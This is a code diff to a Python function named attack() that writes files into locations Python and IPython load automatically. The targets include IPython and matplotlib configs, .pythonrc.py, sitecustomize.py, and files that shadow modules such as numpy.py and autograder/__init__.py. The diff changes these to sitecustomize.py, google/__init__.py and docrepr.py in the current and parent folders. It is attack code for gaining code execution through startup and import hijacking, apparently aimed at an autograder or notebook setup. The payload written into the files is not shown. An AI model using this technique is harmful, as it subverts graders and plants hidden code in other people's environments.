@@ -24,10 +24,7 @@ def attack():
         f"{HOME}/.ipython/profile_default/ipython_config.py",
         f"{HOME}/.config/matplotlib/matplotlibrc.py",
         f"{HOME}/.pythonrc.py",
-        "sitecustomize.py",
-        "IPython/__init__.py",
-        "autograder/__init__.py",
-        "numpy.py",
+        *(f"{folder}/{name}" for folder in (".", "..") for name in ("sitecustomize.py", "google/__init__.py", "docrepr.py")),
     ):
         os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
         with open(path, "w") as file:
